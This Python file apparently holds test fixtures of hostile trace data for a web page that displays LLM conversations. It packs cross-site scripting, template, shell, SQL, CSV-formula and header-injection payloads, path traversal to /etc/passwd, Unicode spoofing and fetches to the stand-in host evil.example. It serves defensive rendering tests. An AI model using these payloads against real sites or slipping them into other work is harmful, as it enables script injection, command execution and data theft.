"""Conversations that an attacker would send: each kind of text in every slot that a page shows.

What would run sets window.__pwned, what would become an element has the class "pwned", and what would be fetched lies on EVIL.
"""

import base64
import json
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import cached_property, partial
from itertools import cycle
from typing import Any, Final

EVIL: Final = "https://evil.example"
PROJECT: Final = "<h1 class=pwned>p</h1>'\"&amp;{{ 7|add:7 }}\u202eevil<script>window.__pwned=1</script>"
GIANT: Final = "giant"
RUN: Final = "window.__pwned=1"
BEGIN: Final = datetime.now(UTC) - timedelta(hours=2)

type Json = Any
type Text = Callable[[], str]


@dataclass(frozen=True)
class Kind:
    """One way to attack: the id of its thread, and texts that go into every slot in turn."""

    name: str
    thread_id: str
    texts: tuple[str, ...]

    @cached_property
    def root_id(self) -> str:
        return str(uuid.uuid5(uuid.NAMESPACE_URL, f"hostile/{self.name}"))

    @property
    def last_id(self) -> str:
        """The second turn's root."""
        return self.run_id("again")

    def run_id(self, name: str) -> str:
        return str(uuid.uuid5(uuid.UUID(self.root_id), name))


SVG: Final = f'<svg xmlns="http://www.w3.org/2000/svg" class="pwned" onload="{RUN}"><script>{RUN}</script></svg>'
SVG_URL: Final = f"data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}"
HTML_URL: Final = f"data:text/html,<script>{RUN}</script>"

KINDS: Final = [
    Kind(
        "script",
        f"<script>{RUN}</script>",
        (
            f'<script class="pwned">{RUN};alert(1)</script>',
            f'"><img class=pwned src=x onerror="{RUN}">',
            f"'><svg class=pwned/onload={RUN}>",
            f"</title></textarea></script></style><script class=pwned>{RUN}</script>",
            f"<details class=pwned open ontoggle={RUN}><summary>s</summary></details>",
            f"```html\n<script class=pwned>{RUN}</script>\n```\n<b class=pwned onmouseover={RUN}>b</b>",
            f"&lt;script class=pwned&gt;{RUN}&lt;/script&gt; &#60;img class=pwned src=x onerror={RUN}&#62;",
            f"<noscript><p title=\"</noscript><img class=pwned src=x onerror={RUN}>\">",
        ),
    ),
    Kind(
        "svg",
        '"><svg onload=window.__pwned=1>',
        (
            SVG,
            f"![picture]({SVG_URL})",
            SVG_URL,
            f'<math class=pwned><mtext><table><mglyph><style><img class=pwned src onerror="{RUN}">',
            f'<svg class=pwned><foreignObject><iframe src="{EVIL}/frame"></iframe></foreignObject></svg>',
            f'<svg class=pwned><use href="{EVIL}/sprite.svg#a"></use><image href="{EVIL}/i.png"/></svg>',
        ),
    ),
    Kind(
        "links",
        "javascript:window.__pwned=1",
        (
            f"[click](javascript:{RUN}) [click]( java\nscript:{RUN}) [click](JaVaScRiPt:{RUN})",
            f"[click]({HTML_URL}) <{HTML_URL}> [v](vbscript:x) [f](file:///etc/passwd) [b](blob:{EVIL}/1)",
            f"<javascript:{RUN}> [ref]\n\n[ref]: javascript:{RUN}",
            f"[click](&#106;avascript:{RUN}) [click](\\u006aavascript:{RUN}) [click](javascript&colon;{RUN})",
            f"[title]({EVIL}/ \"t' onmouseover='{RUN}\") [protocol-relative](//evil.example/) [user](https://a:b@evil.example)",
            f"{EVIL}/auto www.evil.example mallory@evil.example <{EVIL}/angle>",
        ),
    ),
    Kind(
        "images",
        "../../../admin/",
        (
            f"![tracker]({EVIL}/pixel.png?secret=1)",
            f'<img class=pwned src="{EVIL}/raw.png"><img class=pwned srcset="{EVIL}/set.png 2x">',
            f"![r]\n\n[r]: {EVIL}/reference.png",
            f"[![nested]({EVIL}/nested.png)]({EVIL}/)",
            "![broken](data:image/png;base64,AAAA) ![not base64](data:image/png;base64,!!!!)",
            f"<video class=pwned src={EVIL}/v.mp4 autoplay></video><audio class=pwned src={EVIL}/a.mp3></audio>",
            f"![relative](/accounts/logout/) ![admin](/admin/logout/) ![q]({EVIL}/a.png \"title\")",
        ),
    ),
    Kind(
        "html",
        "/o/settings/../%2f%2e%2e/logout?next=//evil.example#x",
        (
            f'<meta class=pwned http-equiv=refresh content="0;url={EVIL}/refresh">',
            f'<base class=pwned href="{EVIL}/"><link class=pwned rel=stylesheet href="{EVIL}/x.css">',
            f'<form class=pwned action="{EVIL}/form"><input name=q autofocus onfocus={RUN}><button>Sign in</button></form>',
            f'<iframe class=pwned src="{EVIL}/frame"></iframe><object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
            f'<div class=pwned hx-get="{EVIL}/htmx" hx-trigger="load" hx-on::load="{RUN}">htmx</div>',
            f'<a class=pwned ping="{EVIL}/ping" href="#" style="position:fixed;inset:0">cover</a>',
            "<template class=pwned></template><dialog class=pwned open>dialog</dialog><!-- <!--> <b class=pwned>x</b> -->",
            '<div id="main" class="pwned" data-theme="x"></div><input name="csrfmiddlewaretoken" class=pwned>',
        ),
    ),
    Kind(
        "style",
        "<style>*{display:none}</style>",
        (
            f"<style class=pwned>*{{display:none!important;background:url({EVIL}/css.png)}}</style>",
            '<p class="pwned" style="position:fixed;inset:0;z-index:9999;background:red">over it all</p>',
            f"@import url({EVIL}/import.css); body {{ display: none }}",
            "</style><style class=pwned>body{visibility:hidden}</style>",
            '<div class="sheet pwned" hidden>looks like ours</div>',
        ),
    ),
    Kind(
        "templates",
        "{% include 'x' %}{{ settings.SECRET_KEY }}",
        (
            "{{ request.user.password }} {{ settings.SECRET_KEY }} {{ 7|add:7 }}",
            "{% debug %}{% load static %}{% include '/etc/passwd' %}{% comment %}",
            "{# comment #} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.__pwned=1')()}}",
            "%(name)s %s {0.__class__} {thread_id} %n%n $(touch /tmp/x) `id` ; DROP TABLE runs_run; --",
            "' OR 1=1 -- \\' \\\" \\u0027 %00 %0d%0aSet-Cookie:%20pwned=1",
        ),
    ),
    Kind(
        "formulas",
        '=cmd|\'/c calc\'!A1,"\n',
        (
            "=cmd|'/c calc'!A1",
            "+1+cmd|'/c calc'!A1",
            "-2+3+cmd|'/c calc'!A1",
            "@SUM(1+9)*cmd|'/c calc'!A1",
            "\t=HYPERLINK(\"https://evil.example\",\"click\")",
            "\r=1+1",
            "\n=1+1",
            "\uff1d1+1",
            "a\",\"=1+1\",\"b",
        ),
    ),
    Kind(
        "unseen",
        "admin\u200b\u202egnp.exe\u2066\u00ad",
        (
            "\u202eright to left override\u202c then \u2066isolate never closed",
            "zero\u200bwidth\u200c\u200d\ufeff\u2060joiners in pay\u00adpal",
            "p\u0430yp\u0430l.com \u0430dmin (Cyrillic) \uff46\uff55\uff4c\uff4c\uff57\uff49\uff44\uff54\uff48 \U000e0041\U000e0042 tags",
            "Z" + "\u0351\u0345\u034e\u0347" * 60 + " zalgo " + "\u0e49" * 80,
            "שלום <b class=pwned>עולם</b> مرحبا \u200f(1) 123\u200e",
            "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062 emoji",
        ),
    ),
    Kind(
        "controls",
        "line\r\nbreak\x00\x1b[31m\x7f\u2028end",
        (
            "\x1b[31;1mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J\x1b[H",
            "nul \x00 bell \x07 back \x08\x08\x08 vertical \x0b form \x0c delete \x7f C1 \x85\x9b",
            "\u2028line\u2029paragraph\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: pwned=1",
            "\ufffe\uffff\ufdd0 noncharacters \U0010ffff",
            "\n" * 300 + "far below" + "\n" * 300,
            "\t" * 200 + "far right",
        ),
    ),
    Kind(
        "wide",
        "w" * 512,
        (
            "W" * 5_000,
            "/" * 600 + "a" * 600,
            "<wbr>" * 300,
            "| " + " | ".join(["column"] * 80) + " |\n" + "|" + "-|" * 80 + "\n" + "| " + " | ".join(["W" * 40] * 80) + " |",
            "    " + "indented code " * 200,
            "```python\n" + "x" * 3_000 + "\n```",
            "\u3042" * 2_000,
            "\U0001f600" * 800,
            "a" * 255 + "." + "b" * 255,
            "`" + "code" * 500 + "`",
        ),
    ),
    Kind(
        "markdown",
        "annotate",
        (
            ">" * 400 + " quoted",
            "".join("  " * level + f"- level {level}\n" for level in range(90)),
            "#" * 6 + " heading\n" + "# " * 300 + "\n\n---\n" * 50,
            "*" * 900 + "a" + "*" * 900 + "_" * 500,
            "[" * 700 + "]" * 700 + "(" * 300 + "![" * 300,
            "1. a\n" + "999999999. b\n" + "\\" * 500 + "<" * 500,
            "```" * 90 + "\n~~~\nunclosed",
            "- [ ] task\n- [x] done\n\nterm[^1]\n\n[^1]: note\n\n$$x$$ <br><br/>&nbsp;&copy;&notareal;",
        ),
    ),
]  # fmt: skip
BY_NAME: Final = {kind.name: kind for kind in KINDS}


def runs_of(kind: Kind, number: int) -> list[dict[str, Json]]:
    """Two turns: one that asks, thinks, calls and answers in each of the shapes that pages know, and one that fails."""
    text = cycle(kind.texts).__next__
    begin = BEGIN + timedelta(minutes=number)
    metadata = {"ls_model_name": text()[:300], "ls_provider": text()[:300], "ls_temperature": 1}
    model = {"metadata": metadata, "invocation_params": {"model": text(), "tools": [_tool(text)]}}
    call = partial(_run, run_type="llm", extra=model, name=text())
    return [*_answered(kind, text, begin, call), *_failed(kind, text, begin + timedelta(seconds=30), call)]


def _answered(kind: Kind, text: Text, begin: datetime, call: Callable[..., Json]) -> list[dict[str, Json]]:
    metadata = {
        "session_id": kind.thread_id, "user_id": text(), text()[:400] or "k": text(), "nested": {text()[:400]: [text()]},
    }  # fmt: skip
    talk = {"inputs": _asks(text), "outputs": _answers(text)}
    extra = {"metadata": metadata, "runtime": {text()[:200]: text()}}
    root = _run(kind, "", text(), begin, extra=extra, tags=[text(), text(), kind.name], **talk)
    documents = [
        {"page_content": text(), "metadata": {"title": text(), "source": text()}, "type": "Document"} for _ in range(2)
    ]
    events = [
        {"name": "new_token", "time": begin.isoformat(), "kwargs": {"token": text()}},
        {"name": text(), "time": text()},
    ]
    child = partial(_run, kind, start=begin, parent=root)
    arguments = {"input": json.dumps({text(): text()})}
    return [
        root,
        child("tool", text(), run_type="tool", inputs=arguments, outputs={"output": text()}),
        child("failed", text(), run_type="tool", inputs={text(): text()}, error=text()),
        child("found", text(), run_type="retriever", inputs={"query": text()}, outputs={"documents": documents}),
        call(kind, "llm", start=begin, parent=root, inputs=_asks(text), outputs=_answers(text), events=events),
    ]


def _failed(kind: Kind, text: Text, begin: datetime, call: Callable[..., Json]) -> list[dict[str, Json]]:
    extra = {"metadata": {"session_id": kind.thread_id, "revision_id": text()}}
    error = f'Traceback (most recent call last):\n  File "{text()}", line 1\n{text()}'
    root = _run(kind, "again", text(), begin, inputs=_asks(text), error=error, extra=extra, outputs={text(): text()})
    return [root, call(kind, "llm_again", start=begin, parent=root, inputs=_asks(text), outputs=_answers(text))]


def _asks(text: Text) -> Json:
    return {
        "messages": [
            {"role": "system", "content": text()},
            {"role": "user", "name": text()[:300], "content": text()},
            {"role": text()[:60], "content": text()},
            {
                "role": "user",
                "content": [
                    {"type": "text", "text": text()},
                    {"type": "image_url", "image_url": {"url": f"{EVIL}/image.png"}},
                    {"type": "image_url", "image_url": {"url": text()}},
                    {"type": "image_url", "image_url": {"url": SVG_URL}},
                    {"type": "image_url", "image_url": {"url": HTML_URL}},
                    {"type": "input_audio", "input_audio": {"data": text(), "format": text()[:60]}},
                    {"type": "file", "file": {"filename": text(), "file_data": text()}},
                    {"type": text()[:60], "whatever": text()},
                ],
            },
        ],
        "tools": [_tool(text)],
        text()[:300]: text(),
    }


def _tool(text: Text) -> Json:
    return {"type": "function", "function": {"name": text(), "description": text(), "parameters": {text(): text()}}}


def _answers(text: Text) -> Json:
    call = {"id": text(), "type": "function", "function": {"name": text(), "arguments": json.dumps({text(): text()})}}
    return {
        "messages": [
            {"role": "assistant", "content": text(), "reasoning_content": text(), "tool_calls": [call]},
            {"role": "tool", "tool_call_id": call["id"], "name": text(), "content": text()},
            {
                "role": "assistant",
                "content": [{"type": "thinking", "thinking": text()}, {"type": "text", "text": text()}],
            },
            {"role": "assistant", "content": text(), "refusal": text()},
        ],
        "usage_metadata": {"input_tokens": 10, "output_tokens": 5, "total_tokens": 15},
    }


def _run(
    kind: Kind, slot: str, name: str, start: datetime, parent: dict[str, Json] | None = None, **fields: Json
) -> dict[str, Json]:
    run_id = kind.run_id(slot) if slot else kind.root_id
    own = f"{start:%Y%m%dT%H%M%S%fZ}{run_id}"
    return {
        "id": run_id, "trace_id": parent["trace_id"] if parent else run_id, "parent_run_id": parent and parent["id"],
        "dotted_order": f"{parent['dotted_order']}.{own}" if parent else own, "session_name": PROJECT, "name": name,
        "run_type": "chain", "start_time": start.isoformat(), "end_time": (start + timedelta(seconds=2)).isoformat(), **fields,
    }  # fmt: skip


def attachments_of(kind: Kind) -> list[tuple[str, str, bytes]]:
    """Name, content type and bytes, on the root of the first turn."""
    page = f"<!doctype html><script>{RUN};parent.__pwned=1;opener&&(opener.__pwned=1)</script>".encode()
    return [
        ("page.html", "text/html", page),
        ("picture.svg", "image/svg+xml", SVG.encode()),
        ("picture.png", "image/png", b"not a picture"),
        ("sound.wav", "audio/wav", b"not a sound"),
        (kind.texts[0].replace("\r", "").replace("\n", " ").replace('"', "'")[:200], "text/html;x=<script>", page),
        ("../../etc/passwd\u202egnp.exe", "application/pdf", page),
    ]


def giants() -> list[list[dict[str, Json]]]:
    """What is too much rather than wicked, each a batch; all of it is taken."""
    kind = Kind("giant", "giant", ("giant",))
    start = BEGIN - timedelta(hours=1)
    deep: Json = "bottom"
    for level in range(190):
        deep = {"down": deep} if level % 2 else [deep]
    extra = {"metadata": {"session_id": kind.thread_id}}

    def one(slot: str, **fields: Json) -> dict[str, Json]:
        return _run(kind, slot, slot, start, extra=extra, **fields)

    picture = "data:image/png;base64," + "A" * 300_000
    seen = [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": picture}}]}]
    messages = [{"role": "user", "content": f"message {number}"} for number in range(2_000)]
    root = one("3,000 runs", inputs={"question": "how many?"}, outputs={"answer": "3,000"})
    children = [_run(kind, f"child {number}", f"child {number}", start, root) for number in range(3_000)]
    return [
        [one("10 MB", inputs={"text": "W" * 10_000_000}, outputs={"text": "two words " * 1_000_000})],
        [one("deep", inputs=deep, outputs={"as text": "[" * 100_000 + "]" * 100_000})],
        [one("5,000 keys", inputs={f"key {number}" * 5: number for number in range(5_000)}, outputs={"": "empty", " ": {}})],
        [one("2,000 messages", inputs={"messages": messages}, outputs={"messages": messages})],
        [one("large picture", inputs={"messages": seen}, outputs={"answer": f"![p]({picture})"})],
        [one("no spaces", inputs={"text": "W" * 3_000_000}, outputs={"text": "é" * 1_000_000, "error": "/" * 300_000})],
        [one("numbers", inputs={"n": 10**4_000, "f": 1e308, "e": 5e-324, "nothing": None, "neg": -0.0}, outputs={"s": "1" * 5_000})],
        [root, *children],
    ]  # fmt: skip


GIANT_THREAD: Final = "giant"
GIANT_RUNS: Final = (
    "10 MB",
    "deep",
    "5,000 keys",
    "2,000 messages",
    "large picture",
    "no spaces",
    "numbers",
    "3,000 runs",
)
